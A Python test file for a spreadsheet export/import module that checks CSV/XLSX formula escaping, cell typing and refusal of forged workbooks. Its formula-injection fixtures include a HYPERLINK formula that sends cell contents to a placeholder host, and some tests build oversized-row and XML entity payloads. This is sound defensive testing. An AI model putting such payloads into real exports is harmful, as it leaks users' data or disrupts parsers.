import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from marketplace.spreadsheets import (
    CELL_LENGTH,
    Column,
    Sheet,
    SpreadsheetError,
    is_formula,
    read_xlsx,
    write_csv,
    write_xlsx,
)

COLUMNS = [Column("名称", width=30), Column("金額（円）", format="#,##0")]

FORMULAS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "　＝1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\n=1",
    '=HYPERLINK("http://example.invalid?"&A1,"詳細")',
]
PLAIN = ["", "勤怠管理", "A=1", "90%", "1-2", "'=1", "（株）例", "～", "ー長音", "#N/A", "　", "a@example.jp"]


def workbook(columns, rows, title="一覧"):
    file = io.BytesIO()
    write_xlsx(file, [Sheet(title, columns, rows)])
    return openpyxl.load_workbook(file)


def parsed(pieces):
    return list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_is_formula_sign_at_start(text):
    assert is_formula(text)


@pytest.mark.parametrize("text", PLAIN)
def test_is_formula_plain_text(text):
    assert not is_formula(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_formula_gets_apostrophe(text):
    assert parsed(write_csv(COLUMNS, [[text, 1]]))[1] == ["'" + text, "1"]


def test_csv_formula_in_heading_gets_apostrophe():
    assert parsed(write_csv([Column("=1")], [])) == [["'=1"]]


def test_csv_typed_values_stay_as_they_are():
    time = datetime.datetime(2026, 11, 23, 5, 5, 9, tzinfo=datetime.UTC)
    row = [-5, Decimal("-1.50"), Decimal("1E+3"), datetime.date(2026, 11, 23), time, None, True, 0]

    lines = parsed(write_csv([Column(str(n)) for n in range(8)], [row]))

    assert lines[1] == ["-5", "-1.50", "1000", "2026-11-23", "2026-11-23 14:05:09", "", "はい", "0"]


def test_csv_begins_with_bom_and_ends_lines_with_crlf():
    assert b"".join(write_csv([Column("a")], [['b"c\nd']])) == b'\xef\xbb\xbfa\r\n"b""c\nd"\r\n'


def test_csv_streams_a_piece_a_row():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield [number]

    pieces = write_csv([Column("n")], rows())

    assert next(pieces) == "\ufeffn\r\n".encode()
    assert taken == [0]
    assert next(pieces) == b"0\r\n"
    assert taken == [0, 1]


@pytest.mark.parametrize("text", [*FORMULAS, "#N/A", "#REF!", "{=1}", "007", "1E5", "2026-11-23", "TRUE"])
def test_xlsx_text_stays_text(text):
    cell = workbook(COLUMNS, [[text, 1]])["一覧"]["A2"]

    assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))  # XML has one kind of line end
    assert cell.quotePrefix is is_formula(text)


def test_xlsx_no_formula_anywhere_in_the_file():
    file = io.BytesIO()
    write_xlsx(file, [Sheet("=1", [Column("=1")], [["=1"]])])

    sheet = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml")

    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    assert sheet.count(b"=1</t>") == 2


def test_xlsx_typed_cells():
    time = datetime.datetime(2026, 11, 23, 5, 5, 9, tzinfo=datetime.UTC)
    columns = [Column(str(n)) for n in range(8)]
    row = [1234567, Decimal("166.0800"), datetime.date(2026, 11, 23), time, None, False, 10**15, Decimal(0)]

    sheet = workbook(columns, [row])["一覧"]
    cells = sheet[2]

    assert [cell.value for cell in cells] == [
        1234567,
        166.08,
        datetime.datetime(2026, 11, 23),
        datetime.datetime(2026, 11, 23, 14, 5, 9),
        None,
        "いいえ",
        "1000000000000000",
        0,
    ]
    assert [cells[index].number_format for index in (0, 1, 2, 3)] == [
        "#,##0",
        "#,##0.0000",
        "yyyy-mm-dd",
        "yyyy-mm-dd hh:mm:ss",
    ]


def test_xlsx_naive_time_is_refused():
    with pytest.raises(ValueError, match="zone"):
        workbook([Column("t")], [[datetime.datetime(2026, 11, 23)]])


def test_xlsx_row_of_other_length_is_refused():
    with pytest.raises(ValueError, match="zip"):
        workbook(COLUMNS, [["a"]])


def test_xlsx_header_is_frozen_filtered_and_wide():
    sheet = workbook([Column("とても長い見出しの列"), Column("b", width=30)], [["a", "b"]])["一覧"]

    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B2"
    assert sheet["A1"].font.b is True
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [24, 30]


def test_xlsx_unwritable_characters_are_shown_and_long_text_is_marked():
    sheet = workbook([Column("a")], [["a\x00b\x1fc"], ["長" * (CELL_LENGTH + 1)]])["一覧"]

    assert sheet["A2"].value == "a〓b〓c"
    assert len(sheet["A3"].value) == CELL_LENGTH
    assert sheet["A3"].value.endswith("…（長いため以下を省略）")


@pytest.mark.parametrize(
    ("title", "expected"), [("a/b[c]:*?", "a・b・c・・・・"), ("長" * 40, "長" * 31), ("'''", "Sheet")]
)
def test_xlsx_sheet_title_is_made_valid(title, expected):
    assert workbook([Column("a")], [], title=title).sheetnames == [expected]


def test_read_xlsx_gives_back_what_was_written():
    file = io.BytesIO()
    write_xlsx(file, [Sheet("s", COLUMNS, [["=1", 5], ["", None], ["b", 0]])])

    assert list(read_xlsx(file, max_rows=4)) == [("名称", "金額（円）"), ("=1", 5), (), ("b", 0)]


def test_read_xlsx_too_many_rows():
    file = io.BytesIO()
    write_xlsx(file, [Sheet("s", [Column("a")], ([number] for number in range(5)))])

    with pytest.raises(SpreadsheetError, match="5行まで"):
        list(read_xlsx(file, max_rows=5))


def test_read_xlsx_too_many_columns():
    file = io.BytesIO()
    write_xlsx(file, [Sheet("s", [Column("a"), Column("b")], [])])

    with pytest.raises(SpreadsheetError, match="1列まで"):
        list(read_xlsx(file, max_rows=5, max_columns=1))


def test_read_xlsx_row_number_without_end():
    file, forged = io.BytesIO(), io.BytesIO()
    write_xlsx(file, [Sheet("s", [Column("a")], [["b"]])])
    with zipfile.ZipFile(file) as source, zipfile.ZipFile(forged, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = data.replace(b'r="2"', b'r="999999999999"').replace(b'r="A2"', b'r="A999999999999"')
            target.writestr(name, data)

    with pytest.raises(SpreadsheetError, match="行が多すぎます"):
        list(read_xlsx(forged, max_rows=5))


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x05\x06" + bytes(18)])
def test_read_xlsx_no_workbook(content):
    with pytest.raises(SpreadsheetError, match="読めません"):
        list(read_xlsx(io.BytesIO(content), max_rows=5))


def test_read_xlsx_entity_expansion_is_refused():
    file, forged = io.BytesIO(), io.BytesIO()
    write_xlsx(file, [Sheet("s", [Column("a")], [])])
    with zipfile.ZipFile(file) as source, zipfile.ZipFile(forged, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/workbook.xml":
                data = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>' + data
            target.writestr(name, data)

    with pytest.raises(SpreadsheetError, match="読めません"):
        list(read_xlsx(forged, max_rows=5))
